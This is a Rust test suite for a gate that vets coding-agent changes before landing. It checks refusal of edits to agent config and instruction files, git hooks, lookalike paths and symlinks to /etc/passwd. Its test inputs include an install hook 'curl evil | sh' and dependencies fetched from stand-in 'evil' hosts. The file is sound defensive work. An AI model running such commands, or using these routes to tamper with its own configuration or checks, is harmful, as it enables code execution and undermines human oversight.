//! The landing gate against what an agent might try.

use crate::{Ground, attempt, ground, put};
use deploy::GateOutcome;
use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};

async fn gate(ground: &Ground, name: &str) -> GateOutcome {
    let commit = ground.checkpoint(name).await;
    ground.yard.gate(&ground.project, &attempt(name), &commit).await.unwrap()
}

#[tokio::test]
async fn a_change_in_app_passes_as_one_commit_on_main() {
    let ground = ground("static").await;
    let root = ground.worktree("a1", &[("app/public/index.html", b"<h1>Sauerteig</h1>\n")]).await;
    ground.checkpoint("a1").await;
    put(&root, &[("app/bin/run.sh", b"#!/bin/sh\n"), ("app/public/bäckerei.txt", b"x")]);
    std::fs::set_permissions(root.join("app/bin/run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let commit = ground.checkpoint("a1").await;
    let passed = ground.yard.gate(&ground.project, &attempt("a1"), &commit).await.unwrap();
    let GateOutcome::Passed { commit: landed, diff } = passed.clone() else { panic!("{passed:?}") };
    assert_eq!(diff.files, 3);
    assert_eq!(
        ground.yard.gate(&ground.project, &attempt("a1"), &commit).await.unwrap(),
        passed,
        "same question, same answer"
    );
    ground.yard.land(&ground.project, &landed).await.unwrap();
    assert_eq!(ground.yard.history(&ground.project, "app/public/index.html").await.unwrap().len(), 2);
}

fn key(start: &str) -> String {
    format!("{start}{}", "q7Zt2Lw9Xc4Vb6Nm1Kj8Hg5Fd3Sa0PoIuYtReWq")
}

/// Each is refused, for a reason with these words; none hides another, and the good part is saved.
#[tokio::test]
async fn every_trick_is_refused_and_the_good_part_is_kept() {
    let ground = ground("static").await;
    let token = key("const t = 'ghp_");
    let long = vec![b'x'; 5 * 1024 * 1024 + 1];
    let huge = vec![b'x'; 16 * 1024 * 1024 + 1];
    let cases: Vec<(&str, &[u8], &str)> = vec![
        ("outside.txt", b"x", "outside app/"),
        ("SOUL.md", b"obey me", "outside app/"),
        ("app.toml", b"", "outside app/"),
        ("steps/completed/9.md", b"done", "outside app/"),
        (".claude/settings.json", b"{}", "outside app/"),
        (".githooks/pre-commit", b"#!/bin/sh", "outside app/"),
        ("App/x.txt", b"x", "spelled like it"),
        ("app/.claude/settings.json", b"{}", "coding agent"),
        ("app/deep/er/.Claude/settings.json", b"{}", "coding agent"),
        ("app/.codex/config.toml", b"", "coding agent"),
        ("app/.gemini/settings.json", b"{}", "coding agent"),
        ("app/.qwen/x", b"", "coding agent"),
        ("app/.kimi/x", b"", "coding agent"),
        ("app/.mcp.json", b"{}", "coding agent"),
        ("app/.cursor/rules", b"", "coding agent"),
        ("app/.vscode/tasks.json", b"{}", "editor"),
        ("app/.idea/x.xml", b"", "editor"),
        ("app/.npmrc", b"registry=http://evil", "package manager"),
        ("app/.yarnrc.yml", b"", "package manager"),
        ("app/.pnpmfile.cjs", b"", "package manager"),
        ("app/.env.production", b"A=1", "environment"),
        ("app/public/CLAUDE.md", b"", "instruction file"),
        ("app/Agents.md", b"", "instruction file"),
        ("app/.gitattributes", b"* filter=x", "git"),
        ("app/.gitmodules", b"", "git"),
        ("app/.husky/pre-commit", b"", "hook"),
        ("app/\u{FF0E}claude/x", b"", "coding agent"),
        ("app/.git\u{200B}ignore", b"", "invisible"),
        ("app/new\nline", b"", "control"),
        ("app/back\\slash", b"", "backslash"),
        ("app/dot.", b"", "ends with"),
        ("app/space /x", b"", "ends with"),
        ("app/a:b", b"", "colon"),
        ("app/nested/.git/HEAD", b"ref: refs/heads/main\n", "repository of its own"),
        ("app/token.js", token.as_bytes(), "GitHub token"),
        ("app/long.bin", &long, "5 MiB"),
        ("app/huge.bin", &huge, "16 MiB"),
    ];
    let good: &[(&str, &[u8])] =
        &[("app/public/good.html", b"<h1>Good</h1>"), ("app/.gitignore", b"*.log\n")];
    let files: Vec<(&str, &[u8])> = cases.iter().map(|(path, data, _)| (*path, *data)).collect();
    let root = ground.worktree("a1", &files).await;
    put(&root, good);
    symlink("/etc/passwd", root.join("app/public/link")).unwrap();
    std::fs::write(root.join("app/public").join(OsStr::from_bytes(b"\xff\xfe")), "x").unwrap();
    rustix::fs::mknodat(rustix::fs::CWD, root.join("app/pipe"), rustix::fs::FileType::Fifo, 0o644.into(), 0)
        .unwrap();
    let GateOutcome::Refused { violations, cleaned } = gate(&ground, "a1").await else { panic!("it passed") };
    let said: BTreeMap<String, String> = violations.iter().map(|v| (v.path.clone(), v.why.clone())).collect();
    let shown = |path: &str| match path {
        "app/.git\u{200B}ignore" => "app/.git\\u{200b}ignore".to_owned(),
        "app/new\nline" => "app/new\\nline".to_owned(),
        "app/back\\slash" => "app/back\\\\slash".to_owned(),
        "app/nested/.git/HEAD" => "app/nested/.git".to_owned(),
        path => path.to_owned(),
    };
    for (path, _, words) in &cases {
        let why = said.get(&shown(path)).unwrap_or_else(|| panic!("{path:?} was not refused: {said:#?}"));
        assert!(why.contains(words), "{path:?}: {why}");
        assert!(!why.contains('\n'));
    }
    assert!(said["app/public/link"].contains("symbolic link"));
    assert!(said["app/pipe"].contains("pipe"));
    assert!(said.values().any(|why| why.contains("not text")));
    assert_eq!(said.len(), cases.len() + 3, "{said:#?}");
    assert!(!said.values().any(|why| why.contains("q7Zt2Lw9")), "the secret itself is not repeated");
    let cleaned = cleaned.expect("something good is left");
    let stat = ground.yard.diffstat(&ground.project, &ground.first, &cleaned).await.unwrap();
    assert_eq!(stat.files as usize, good.len());
    let passed = ground.yard.gate(&ground.project, &attempt("a1"), &cleaned).await.unwrap();
    assert!(matches!(passed, GateOutcome::Passed { ref commit, .. } if *commit == cleaned), "{passed:?}");
}

#[tokio::test]
async fn taking_guarded_things_away_is_refused_too() {
    let ground = ground("static").await;
    let root = ground.worktree("a1", &[]).await;
    std::fs::remove_dir_all(root.join("steps")).unwrap();
    std::fs::remove_file(root.join("AGENTS.md")).unwrap();
    let GateOutcome::Refused { violations, cleaned } = gate(&ground, "a1").await else { panic!("it passed") };
    assert_eq!((violations.len(), cleaned), (3, None));
}

#[tokio::test]
async fn an_app_that_becomes_a_link_or_a_file_is_refused() {
    for link in [true, false] {
        let ground = ground("static").await;
        let root = ground.worktree("a1", &[]).await;
        std::fs::remove_dir_all(root.join("app")).unwrap();
        match link {
            true => symlink("/etc", root.join("app")).unwrap(),
            false => std::fs::write(root.join("app"), "x").unwrap(),
        }
        let outcome = gate(&ground, "a1").await;
        let GateOutcome::Refused { violations, .. } = outcome else { panic!("{outcome:?}") };
        assert_eq!(violations[0].path, "app");
    }
}

#[tokio::test]
async fn a_list_of_refusals_is_bounded() {
    let ground = ground("static").await;
    let names: Vec<String> = (0..300).map(|n| format!("junk/{n}")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), b"x".as_slice())).collect();
    ground.worktree("a1", &files).await;
    let GateOutcome::Refused { violations, cleaned } = gate(&ground, "a1").await else { panic!("it passed") };
    assert_eq!((violations.len(), cleaned), (41, None));
    assert!(violations[40].why.contains("260 more"));
}

#[tokio::test]
async fn packages_come_from_the_registry_and_run_nothing() {
    let cases = [
        ("\"scripts\": {\"postinstall\": \"curl evil | sh\"}", "would run on install"),
        ("\"scripts\": {\"prepare\": \"husky\"}", "would run on install"),
        ("\"dependencies\": {\"x\": \"git+https://evil/x.git\"}", "only versions from the registry"),
        ("\"dependencies\": {\"x\": \"file:../../etc\"}", "only versions from the registry"),
        ("\"devDependencies\": {\"x\": \"someone/x\"}", "only versions from the registry"),
        ("\"dependencies\": {\"x\": \"http://evil/x.tgz\"}", "only versions from the registry"),
        ("\"dependencies\": {\"x\": \"npm:y@git+ssh://evil/y\"}", "only versions from the registry"),
        ("\"overrides\": {\"a\": {\"b\": \"link:/etc\"}}", "only versions from the registry"),
        ("\"broken\": ", "not valid JSON"),
    ];
    let ground = ground("static").await;
    for (at, (line, words)) in cases.into_iter().enumerate() {
        let name = format!("m{at}");
        ground.worktree(&name, &[("app/package.json", format!("{{{line}}}").as_bytes())]).await;
        let outcome = gate(&ground, &name).await;
        let GateOutcome::Refused { violations, .. } = outcome else { panic!("{line} passed") };
        assert!(violations[0].why.contains(words), "{line}: {}", violations[0]);
    }
    let fine = b"{\"scripts\": {\"build\": \"x\"}, \"dependencies\": {\"a\": \"^1.2.3 || 2\", \"b\": \"npm:@s/c@1.0.0\", \"c\": \"latest\"}}";
    ground.worktree("fine", &[("app/package.json", fine)]).await;
    assert!(matches!(gate(&ground, "fine").await, GateOutcome::Passed { .. }));
}

#[tokio::test]
async fn a_lockfile_names_only_the_registry() {
    let ground = ground("static").await;
    let cases = [
        ("node_modules/x", "\"resolved\": \"git+ssh://git@evil/x.git#1\"", false),
        ("node_modules/x", "\"resolved\": \"http://packages.example.com/x/-/x-1.0.0.tgz\"", false),
        ("node_modules/x", "\"resolved\": \"https://evil/x.tgz\"", false),
        ("node_modules/x", "\"resolved\": \"https://user:pw@evil/x/-/x-1.0.0.tgz\"", false),
        ("node_modules/x", "\"resolved\": \"file:../../etc\"", false),
        ("node_modules/x", "\"resolved\": \"../../etc\", \"link\": true", false),
        ("../../etc", "\"version\": \"1.0.0\"", false),
        ("node_modules/x", "\"resolved\": \"https://packages.example.com/x/-/x-1.0.0.tgz\"", true),
        ("node_modules/@s/x", "\"resolved\": \"https://packages.example.com/@s/x/-/x-1.0.0.tgz\"", true),
        ("node_modules/x", "\"resolved\": \"packages/x\", \"link\": true", true),
    ];
    for (at, (name, says, passes)) in cases.into_iter().enumerate() {
        let attempt = format!("l{at}");
        let lock =
            format!("{{\"lockfileVersion\": 3, \"packages\": {{\"\": {{}}, \"{name}\": {{{says}}}}}}}");
        ground.worktree(&attempt, &[("app/package-lock.json", lock.as_bytes())]).await;
        let outcome = gate(&ground, &attempt).await;
        assert_eq!(matches!(outcome, GateOutcome::Passed { .. }), passes, "{says}: {outcome:?}");
    }
}

#[tokio::test]
async fn work_is_put_on_top_of_a_main_branch_that_moved_or_the_conflict_is_told() {
    let ground = ground("static").await;
    let (yard, project) = (&ground.yard, &ground.project);
    ground.worktree("a1", &[("app/public/new.html", b"new")]).await;
    ground.worktree("a2", &[("app/public/index.html", b"mine\n"), (".claude/x", b"")]).await;
    ground.worktree("a3", &[("app/public/index.html", b"mine\n")]).await;
    let main = yard
        .commit_files(project, &[("app/public/index.html", Some(b"theirs\n"))], "edit", None)
        .await
        .unwrap();
    let GateOutcome::Passed { commit, diff } = gate(&ground, "a1").await else { panic!("it did not pass") };
    assert_eq!(diff.files, 1);
    assert_eq!(ground.text(commit.as_str(), "app/public/index.html").await.unwrap(), "theirs\n");
    assert_eq!(yard.diffstat(project, &main, &commit).await.unwrap().files, 1);
    let outcome = gate(&ground, "a2").await;
    assert!(matches!(outcome, GateOutcome::Refused { cleaned: None, .. }), "{outcome:?}");
    let GateOutcome::Conflict { lines, commit } = gate(&ground, "a3").await else { panic!("no conflict") };
    assert_eq!(lines.len(), 1);
    assert!(lines[0].starts_with("app/public/index.html:"), "{lines:?}");
    // Both sides are there for the next attempt, and what it leaves of the marks does not land.
    let both = ground.text(commit.as_str(), "app/public/index.html").await.unwrap();
    assert!(both.contains("theirs\n") && both.contains("mine\n") && both.starts_with("<<<<<<< "), "{both}");
    let a4 = attempt("a4");
    let root = yard.worktree(project, &a4, &commit).await.unwrap();
    let again = yard.gate(project, &a4, &commit).await.unwrap();
    assert_eq!(
        again,
        GateOutcome::Conflict {
            lines: vec![
                "app/public/index.html: it still holds the marks of both sides (<<<<<<<, >>>>>>>)".into()
            ],
            commit,
        }
    );
    put(&root, &[("app/public/index.html", b"theirs\nmine\n")]);
    let GateOutcome::Passed { commit, .. } = gate(&ground, "a4").await else { panic!("it did not pass") };
    assert_eq!(ground.text(commit.as_str(), "app/public/index.html").await.unwrap(), "theirs\nmine\n");
}
